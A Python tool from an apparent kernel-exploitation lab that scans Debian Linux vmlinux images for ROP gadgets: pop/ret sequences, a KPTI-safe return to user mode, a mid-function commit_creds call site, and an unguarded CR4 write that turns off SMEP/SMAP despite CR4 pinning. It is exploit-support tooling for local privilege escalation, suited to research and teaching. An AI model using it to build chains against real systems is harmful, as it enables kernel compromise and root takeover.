# SPDX-License-Identifier: GPL-2.0
"""ROP gadget finder for the lab's target profiles.

find(vmlinux, syms) returns {name: value} for mkprofile.py, which writes
each as "gadget.NAME 0xVALUE".  Values are offsets from _text, except the
metadata keys ("NAME.skip", "NAME.reg", ...) that describe how to use a
gadget (extra stack slots it pops, which register it reads).

What counts as a return: a `ret` byte (c3) and a `jmp __x86_return_thunk`
(every compiled `ret` of these kernels, listed in .return_sites).  At boot
the kernel may rewrite that jump to `ret`, or keep it pointing at the thunk:
both return.  Gadgets are searched in .text only and must not overlap code
the kernel patches at boot (.altinstructions sites), so the bytes we find
are the bytes that run.

Search strategy: byte patterns locate candidates, capstone decodes them,
and a small simulator checks what each candidate does to the registers and
the stack.  Every gadget the exploits rely on is found here, from the
vmlinux of the profile build; nothing is typed by hand.
"""
import re
import struct
import sys

try:
    import capstone
except ImportError:  # a pyenv python without Debian's python3-capstone path
    sys.path.append("/usr/lib/python3/dist-packages")
    import capstone

TEXT_BASE = 0xffffffff81000000  # link address of _text (x86_64, no relocation)
MAX_GADGET = 24                 # bytes before the return we look at

REGS64 = ["rax", "rcx", "rdx", "rbx", "rsp", "rbp", "rsi", "rdi",
          "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15"]
# x86 register numbers (what .reg metadata encodes)
REGNUM = {r: i for i, r in enumerate(REGS64)}
CALLEE_SAVED = ["rbx", "rbp", "r12", "r13", "r14", "r15"]


class Elf:
    """Just enough ELF64 to read vmlinux's sections."""

    def __init__(self, path):
        with open(path, "rb") as f:
            self.data = f.read()
        d = self.data
        shoff, = struct.unpack_from("<Q", d, 0x28)
        shentsize, shnum, shstrndx = struct.unpack_from("<HHH", d, 0x3a)
        heads = [struct.unpack_from("<IIQQQQIIQQ", d, shoff + i * shentsize)
                 for i in range(shnum)]
        strtab = heads[shstrndx]
        self.sections = {}
        for h in heads:
            name_off = strtab[4] + h[0]
            name = d[name_off:d.index(b"\0", name_off)].decode()
            self.sections[name] = (h[3], h[4], h[5], h[1])  # addr, off, size, type

    def section(self, name):
        """(address, bytes) of a section; empty when missing or NOBITS."""
        if name not in self.sections:
            return 0, b""
        addr, off, size, typ = self.sections[name]
        if typ == 8:
            return addr, b""
        return addr, self.data[off:off + size]


def _rel32_table(elf, name):
    """Addresses listed in a table of s32 self-relative offsets."""
    addr, raw = elf.section(name)
    n = len(raw) // 4
    offs = struct.unpack_from("<%di" % n, raw)
    return [addr + 4 * i + o for i, o in enumerate(offs)]


def _patched_ranges(elf):
    """Sorted (start, end) of code that alternatives rewrite at boot."""
    addr, raw = elf.section(".altinstructions")
    # struct alt_instr: s32 instr, s32 repl, u16/u32 feature, u8 len, u8 repllen.
    # 6.1 uses a 16-bit feature (12 bytes), 6.12 a 32-bit one (14 bytes).
    text_addr, text = elf.section(".text")
    for esz, fmt in ((14, "<iiIBB"), (12, "<iiHBB")):
        if len(raw) % esz:
            continue
        ranges = []
        ok = True
        for i in range(len(raw) // esz):
            instr, _, _, ilen, _ = struct.unpack_from(fmt, raw, i * esz)
            start = addr + i * esz + instr
            if not (TEXT_BASE <= start < 0xffffffff84000000) or ilen > 64:
                ok = False
                break
            ranges.append((start, start + ilen))
        if ok:
            return sorted(ranges)
    raise SystemExit("gadgets: cannot parse .altinstructions")


class Text:
    def __init__(self, vmlinux, syms):
        self.elf = Elf(vmlinux)
        self.addr, self.code = self.elf.section(".text")
        if self.addr != TEXT_BASE:
            raise SystemExit("gadgets: .text at %#x, expected %#x" % (self.addr, TEXT_BASE))
        self.syms = syms  # name -> offset from _text
        self.md = capstone.Cs(capstone.CS_ARCH_X86, capstone.CS_MODE_64)
        self.md.detail = True
        thunk = syms.get("__x86_return_thunk")
        self.thunk = TEXT_BASE + thunk if thunk is not None else None
        self.rets = set()  # addresses of return instructions (c3 / jmp thunk)
        for a in _rel32_table(self.elf, ".return_sites"):
            if self._is_thunk_jmp(a):
                self.rets.add(a)
        for m in re.finditer(b"\xc3", self.code):
            self.rets.add(self.addr + m.start())
        self.patched = _patched_ranges(self.elf)
        self._patched_starts = [r[0] for r in self.patched]

    # --- raw access ---
    def off(self, a):
        return a - self.addr

    def byte(self, a):
        return self.code[self.off(a)]

    def _is_thunk_jmp(self, a):
        o = self.off(a)
        if not (0 <= o < len(self.code) - 5) or self.code[o] != 0xe9:
            return False
        rel, = struct.unpack_from("<i", self.code, o + 1)
        return self.thunk is not None and a + 5 + rel == self.thunk

    def ret_len(self, a):
        """Length of the return instruction at @a, 0 when none."""
        if a not in self.rets:
            return 0
        return 1 if self.byte(a) == 0xc3 else 5

    def touches_patched(self, start, end):
        import bisect
        i = bisect.bisect_right(self._patched_starts, end) - 1
        while i >= 0 and self.patched[i][1] > start - 64:
            s, e = self.patched[i]
            if s < end and start < e:
                return True
            i -= 1
        return False

    def insns(self, start, end):
        """Decode [start, end) exactly, or None."""
        out = []
        a = start
        for ins in self.md.disasm(self.code[self.off(start):self.off(end)], start):
            if ins.address != a:
                return None
            out.append(ins)
            a += ins.size
        return out if a == end else None

    def disasm_from(self, start, count):
        return list(self.md.disasm(self.code[self.off(start):self.off(start) + 15 * count],
                                   start, count))

    def sym_at(self, name):
        return TEXT_BASE + self.syms[name]

    # --- finding ---
    def pattern(self, regex):
        """Addresses where @regex matches the text (overlapping)."""
        return [self.addr + m.start() for m in re.finditer(b"(?=" + regex + b")", self.code, re.S)]

    def literal(self, raw):
        """Addresses of the byte string @raw in the text."""
        return self.pattern(re.escape(raw))


# --- gadget semantics ---

class Effect:
    """What a straight-line gadget does: stack slots it pops (register name or
    None for a discarded slot), registers it writes, and register copies."""

    def __init__(self):
        self.slots = []        # in pop order
        self.writes = set()
        self.moves = []        # (dst, src) register copies, in order
        self.needs_rcx0 = False  # a rep string instruction: rcx must be 0

    def clobber(self, reg):
        """@reg gets a value that is no copy of an entry register."""
        self.moves.append((reg, None))
        self.writes.add(reg)


def _reg(ins, op):
    return ins.reg_name(op.reg)


def simulate(ins_list):
    """Effect of a gadget body (without its return), or None when it does
    something we do not model (memory writes, branches, privileged...)."""
    eff = Effect()
    for ins in ins_list:
        m = ins.mnemonic
        ops = ins.operands
        if m == "pop" and ops[0].type == capstone.x86.X86_OP_REG:
            r = _reg(ins, ops[0])
            if r not in REGS64 or r == "rsp":
                return None
            eff.slots.append(r)
            eff.clobber(r)
        elif m == "add" and ops[0].type == capstone.x86.X86_OP_REG and \
                _reg(ins, ops[0]) == "rsp" and ops[1].type == capstone.x86.X86_OP_IMM:
            n = ops[1].imm
            if n < 0 or n % 8 or n > 0x40:
                return None
            eff.slots += [None] * (n // 8)
        elif m == "mov" and len(ops) == 2 and all(o.type == capstone.x86.X86_OP_REG for o in ops):
            dst, src = _reg(ins, ops[0]), _reg(ins, ops[1])
            if "rsp" in (dst, src) or dst not in REGS64 or src not in REGS64:
                # 32-bit moves zero-extend: accept them as writes only
                if dst == "rsp" or src == "rsp" or src == "esp":
                    return None
                eff.clobber(_full(dst))
                continue
            eff.moves.append((dst, src))
            eff.writes.add(dst)
        elif m in ("test", "cmp"):
            if any(o.type == capstone.x86.X86_OP_MEM for o in ops):
                return None
        elif m in ("cdqe", "cqo", "cdq"):
            eff.clobber("rax" if m == "cdqe" else "rdx")
        elif m in ("rep movsq", "rep movsd", "rep movsb", "rep stosq", "rep stosb"):
            # harmless only with a zero count: the caller must provide rcx = 0
            if "rcx" in eff.writes:
                return None
            eff.needs_rcx0 = True  # and then it changes nothing
        elif m in ("xor", "and", "or", "sub", "add", "inc", "dec", "neg", "not", "shl", "shr",
                   "sar", "movzx", "movsxd", "lea", "xchg") and \
                all(o.type != capstone.x86.X86_OP_MEM or m == "lea" for o in ops):
            if any(o.type == capstone.x86.X86_OP_REG and _full(_reg(ins, o)) == "rsp" for o in ops):
                return None
            if m == "xchg":
                a, b = _reg(ins, ops[0]), _reg(ins, ops[1])
                if a in REGS64 and b in REGS64:
                    eff.moves.append(("tmp", a))
                    eff.moves.append((a, b))
                    eff.moves.append((b, "tmp"))
                eff.writes.add(_full(a))
                eff.writes.add(_full(b))
            else:
                eff.clobber(_full(_reg(ins, ops[0])))
        else:
            return None
    return eff


_SUB = {}
for _r in REGS64:
    if _r.startswith("r") and _r[1:].isdigit():
        for s in ("d", "w", "b"):
            _SUB[_r + s] = _r
    else:
        base = _r[1:]
        _SUB["e" + base] = _r
        _SUB[base] = _r
        if base in ("ax", "bx", "cx", "dx"):
            _SUB[base[0] + "l"] = _r
            _SUB[base[0] + "h"] = _r
        else:
            _SUB[base + "l"] = _r
    _SUB[_r] = _r


def _full(r):
    return _SUB.get(r, r)


def final_value(eff, reg):
    """Which register's entry value @reg holds after the gadget (None when
    something else than a plain copy wrote it last)."""
    cur = {r: r for r in REGS64}
    cur["tmp"] = None
    for dst, src in eff.moves:
        cur[dst] = cur.get(src) if src else None
    return cur[reg]


# --- the gadgets the attacks use ---

def find_pop(t, reg):
    """`pop REG; ret`, exactly (one stack slot, nothing else)."""
    opcode = {"rax": 0x58, "rcx": 0x59, "rdx": 0x5a, "rbx": 0x5b, "rsp": 0x5c,
              "rbp": 0x5d, "rsi": 0x5e, "rdi": 0x5f}[reg]
    for a in t.literal(bytes([opcode])):
        n = t.ret_len(a + 1)
        if n and not t.touches_patched(a, a + 1 + n):
            return a
    raise SystemExit("gadgets: no `pop %s; ret`" % reg)


def find_ret(t):
    for a in sorted(t.rets):
        if t.byte(a) == 0xc3 and not t.touches_patched(a, a + 1):
            return a
    raise SystemExit("gadgets: no ret")


def find_mov_rdi_rax(t):
    """rdi = rax, then return: for f(g(x)) chains such as
    commit_creds(prepare_kernel_cred(0)).  Accepts extra pops (returned as
    .skip junk slots) and a zero-count rep string instruction (.rcx0: the
    chain must set rcx = 0 first).  Preference: no rcx need, fewest slots."""
    cands = []
    for raw in (b"\x48\x89\xc7", b"\x48\x8b\xf8"):  # mov %rax,%rdi (both encodings)
        for a in t.literal(raw):
            for r in range(a + 3, a + 3 + MAX_GADGET):
                if not t.ret_len(r):
                    continue
                ins = t.insns(a, r)
                if ins is None or t.touches_patched(a, r + t.ret_len(r)):
                    break
                eff = simulate(ins)
                if eff is None or final_value(eff, "rdi") != "rax":
                    break
                cands.append((eff.needs_rcx0, len(eff.slots), a, eff))
                break
    if not cands:
        raise SystemExit("gadgets: no `mov %rax,%rdi ... ret`")
    rcx0, _, a, eff = min(cands, key=lambda c: c[:3])
    return a, len(eff.slots), int(rcx0)


def find_kpti_return(t):
    """The KPTI-safe tail of swapgs_restore_regs_and_return_to_usermode:
    `mov %rsp,%rdi; mov %gs:cpu_tss_rw.sp0,%rsp; push 0x30(%rdi) ...`.
    Entered with the stack [rdi, orig_ax, rip, cs, rflags, rsp, ss], it
    copies the iret frame to the trampoline stack, switches CR3 to the user
    page tables, swapgs and iretq.  (Its start pops the full pt_regs, and on
    6.12 it starts with a non-PTI path that the kernel patches at boot.)"""
    start = t.sym_at("swapgs_restore_regs_and_return_to_usermode")
    ins = t.disasm_from(start, 80)
    for i, cur in enumerate(ins[:-1]):
        nxt = ins[i + 1]
        if cur.mnemonic == "mov" and cur.op_str == "rdi, rsp" and \
                nxt.mnemonic == "mov" and nxt.op_str.startswith("rsp, qword ptr gs:"):
            return cur.address
    raise SystemExit("gadgets: no KPTI return path in swapgs_restore_regs_and_return_to_usermode")


def _branch_target(ins):
    if len(ins.operands) == 1 and ins.operands[0].type == capstone.x86.X86_OP_IMM:
        return ins.operands[0].imm & 0xffffffffffffffff  # capstone gives it signed
    return None


def _calls_to(t, target):
    """(address, is_tail_jump) of every direct call/jmp rel32 to @target."""
    out = []
    for m in re.finditer(b"(?=[\xe8\xe9])", t.code):
        o = m.start()
        rel, = struct.unpack_from("<i", t.code, o + 1)
        a = t.addr + o
        if a + 5 + rel == target:
            out.append((a, t.code[o] == 0xe9))
    return out


def follows_call(t, a):
    """Whether some call instruction ends right at @a (then @a is a normal
    return address, which is not what the mid-function attack is about)."""
    for back in (2, 3, 5, 6, 7):
        ins = t.insns(a - back, a)
        if ins and len(ins) == 1 and ins[0].mnemonic == "call":
            return True
    return False


def find_mid_call(t, func, regs=("rbx", "rbp", "r12", "r13", "r14")):
    """A site in the middle of some function (not after a call: no return
    address a text-range or call-site check would expect) that does
        mov %REG,%rdi ; [pops] ; call/jmp FUNC ; [pops] ; ret
    with REG a callee-saved register: returning there with REG restored from
    a smashed frame calls FUNC(REG) without any ROP gadget.  Returns
    (address, REG, slots): @slots stack words are consumed between the site
    and the next return address.  Prefers a tail jump, then fewer slots."""
    best_site = None
    for c, tail in _calls_to(t, t.sym_at(func)):
        for back in range(3, 32):
            s = c - back
            ins = t.insns(s, c)
            if not ins or ins[0].mnemonic != "mov" or not ins[0].op_str.startswith("rdi, "):
                continue
            reg = ins[0].op_str[5:]
            if reg not in regs:
                continue
            before = simulate(ins[1:])
            if before is None or "rdi" in before.writes or before.needs_rcx0:
                continue
            slots = len(before.slots)
            if not tail:
                after = None
                for r in range(c + 5, c + 5 + 40):
                    if t.ret_len(r):
                        body = t.insns(c + 5, r)
                        after = simulate(body) if body is not None else None
                        break
                if after is None or after.needs_rcx0:
                    continue
                slots += len(after.slots)
            end = c + 5
            if t.touches_patched(s, end) or follows_call(t, s):
                continue
            key = (not tail, slots, s)
            if best_site is None or key < best_site[0]:
                best_site = (key, s, reg, slots)
            break
    if best_site is None:
        raise SystemExit("gadgets: no `mov %%REG,%%rdi; call %s` site" % func)
    return best_site[1:]


def _rip_target(ins, op):
    """Address a rip-relative memory operand points to, or None."""
    m = op.mem
    if op.type != capstone.x86.X86_OP_MEM or m.segment != 0 or m.index != 0 or \
            ins.reg_name(m.base) != "rip":
        return None
    return (ins.address + ins.size + m.disp) & 0xffffffffffffffff


def _in_data(t, a):
    """Whether @a lies in the kernel's permanent writable data (not init)."""
    for name in (".data", ".bss"):
        start, _, size, _ = t.elf.sections.get(name, (0, 0, 0, 0))
        if start <= a < start + size:
            return True
    return False


def _walk_cr4_write(t, site):
    """Follow the code from `mov %REG,%cr4` at @site to its return.
    Accepted: CR4 writes from registers that still hold the chain's values,
    a CR3 switch that is undone (`mov %cr3,%X; mov %ROOT,%cr3 ... mov
    %X,%cr3`: ROOT must then hold a valid page-table root), an `rdrand`
    retry loop, stores to kernel data and a compare against what was just
    stored there (its branch outcome is then known), register copies.
    Anything else (another CR read, a jump the kernel may patch, a call)
    rejects the site.  Returns (first CR4 reg, final CR4 reg, root reg or
    None, instruction count) in entry registers, or None."""
    val = {r: r for r in REGS64}   # register -> entry register it holds, or a token
    srcs, stores = [], {}
    saved_cr3 = root = None
    restored = False
    zf = None
    tokens = 0
    pc = site
    for steps in range(40):
        n = t.ret_len(pc)
        if n:
            if not srcs or t.touches_patched(site, pc + n):
                return None
            if saved_cr3 is not None and not restored:
                return None
            return srcs[0], srcs[-1], root, steps
        ins = t.disasm_from(pc, 1)
        if not ins:
            return None
        ins = ins[0]
        m, ops = ins.mnemonic, ins.operands
        regs = [_reg(ins, o) if o.type == capstone.x86.X86_OP_REG else None for o in ops]
        nxt = pc + ins.size
        if m == "mov" and len(ops) == 2 and regs[0] == "cr4" and regs[1] in REGS64:
            if val[regs[1]] not in REGS64:
                return None
            srcs.append(val[regs[1]])
        elif m == "mov" and len(ops) == 2 and regs[1] == "cr3" and regs[0] in REGS64:
            if saved_cr3 is not None:
                return None
            tokens += 1
            saved_cr3 = val[regs[0]] = "cr3:%d" % tokens
        elif m == "mov" and len(ops) == 2 and regs[0] == "cr3" and regs[1] in REGS64:
            v = val[regs[1]]
            if saved_cr3 is not None and v == saved_cr3 and root is not None:
                restored = True
            elif saved_cr3 is not None and root is None and v in REGS64:
                root = v
            else:
                return None
        elif m == "rdrand" and regs[0] in REGS64:
            # only the retry loop `1: rdrand %X; jnc 1b`
            loop = t.disasm_from(nxt, 1)
            if not loop or loop[0].mnemonic not in ("jae", "jnb") or \
                    _branch_target(loop[0]) != pc:
                return None
            tokens += 1
            val[regs[0]] = "rand:%d" % tokens
            nxt += loop[0].size
        elif m == "mov" and len(ops) == 2 and regs[1] in REGS64 and \
                _rip_target(ins, ops[0]) is not None:
            a = _rip_target(ins, ops[0])
            if not _in_data(t, a):
                return None
            stores[a] = val[regs[1]]
        elif m == "cmp" and len(ops) == 2 and regs[1] in REGS64 and \
                _rip_target(ins, ops[0]) is not None:
            a = _rip_target(ins, ops[0])
            # equal when it reads back what this path just stored (a
            # register value no one else can have guessed)
            zf = stores.get(a) == val[regs[1]] and str(val[regs[1]]).startswith("rand:")
            if not zf:
                return None
        elif m in ("je", "jz", "jne", "jnz") and _branch_target(ins) is not None:
            if zf is None:
                return None
            if zf == (m in ("je", "jz")):
                nxt = _branch_target(ins)
        elif m == "mov" and len(ops) == 2 and regs[0] in REGS64 and regs[1] in REGS64 and \
                "rsp" not in regs:
            val[regs[0]] = val[regs[1]]
        else:
            return None
        pc = nxt
    return None


def find_cr4_write(t):
    """An unguarded `mov %REG,%cr4` that returns: unlike native_write_cr4(),
    whose CR4 pinning puts SMEP/SMAP back before it returns (and WARNs), a
    bare CR4 write leaves them as the chain says.  Every such site in .text
    is followed to its return (_walk_cr4_write); in the Debian kernels the
    one that qualifies is in sev_verify_cbit(), past its SEV checks:
        mov %rdx,%cr4; 1: rdrand %rdx; jnc 1b; mov %rdx,sev_check_data
        mov %cr3,%rcx; mov %rdi,%cr3; cmp %rdx,sev_check_data
        mov %rcx,%cr3; mov %rsi,%cr4; je 3f ... 3: mov %rdi,%rax; ret
    Returns (address, first CR4 reg, final CR4 reg, page-table root reg or
    None).  Prefers no CR3 switch, then the shortest path."""
    cands = []
    for a in t.pattern(b"\x0f\x22[\xe0-\xe7]"):  # mov %r64,%cr4 (rax..rdi)
        if t.touches_patched(a, a + 3):
            continue
        w = _walk_cr4_write(t, a)
        if w:
            first, final, root, steps = w
            cands.append((root is not None, steps, a, first, final, root))
    if not cands:
        raise SystemExit("gadgets: no unguarded `mov %REG,%cr4 ... ret`")
    _, _, a, first, final, root = min(cands)
    return a, first, final, root


def find_cr4_shadow(t):
    """Per-CPU offset of cpu_tlbstate.cr4 (the kernel's copy of this CPU's
    CR4), read off cr4_read_shadow(): `mov %gs:OFF(%rip),%rax; ret`."""
    ins = [i for i in t.disasm_from(t.sym_at("cr4_read_shadow"), 3) if i.mnemonic != "endbr64"]
    if len(ins) < 2 or ins[0].mnemonic != "mov" or ins[0].op_str[:4] != "rax," or \
            not t.ret_len(ins[1].address):
        raise SystemExit("gadgets: cr4_read_shadow is not `mov %gs:X,%rax; ret`")
    m = ins[0].operands[1].mem
    if ins[0].reg_name(m.segment) != "gs" or ins[0].reg_name(m.base) != "rip":
        raise SystemExit("gadgets: cr4_read_shadow does not read a per-CPU variable")
    off = (ins[0].address + ins[0].size + m.disp) & 0xffffffffffffffff
    _, _, size, _ = t.elf.sections[".data..percpu"]
    if off >= size:
        raise SystemExit("gadgets: cpu_tlbstate.cr4 at %#x is outside .data..percpu" % off)
    return off


def find(vmlinux, syms):
    base = syms["_text"]
    t = Text(vmlinux, {n: o - base for n, o in syms.items()})
    out = {}

    def put(name, addr):
        out[name] = addr - TEXT_BASE

    for reg in ("rdi", "rsi", "rdx", "rcx", "rsp"):
        put("pop_" + reg, find_pop(t, reg))
    put("ret", find_ret(t))
    a, skip, rcx0 = find_mov_rdi_rax(t)
    put("mov_rdi_rax", a)
    out["mov_rdi_rax.skip"] = skip
    out["mov_rdi_rax.rcx0"] = rcx0
    put("kpti_return", find_kpti_return(t))
    a, reg, slots = find_mid_call(t, "commit_creds")
    put("mid_commit_creds", a)
    out["mid_commit_creds.reg"] = REGNUM[reg]
    out["mid_commit_creds.skip"] = slots
    a, first, final, root = find_cr4_write(t)
    put("cr4_write", a)
    out["cr4_write.reg"] = REGNUM[first]   # the first CR4 value
    out["cr4_write.final"] = REGNUM[final]  # the CR4 value left in place
    if root is not None:
        out["cr4_write.pgt"] = REGNUM[root]  # a page-table root (CR3) it switches to and back
    out["cr4_write.shadow"] = find_cr4_shadow(t)  # per-CPU offset of cpu_tlbstate.cr4
    return out


if __name__ == "__main__":
    # gadgets.py VMLINUX KALLSYMS: print what the profile would get
    sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
    import mkprofile
    for k, v in find(sys.argv[1], mkprofile.kallsyms(sys.argv[2])).items():
        print("gadget.%s 0x%x" % (k, v))
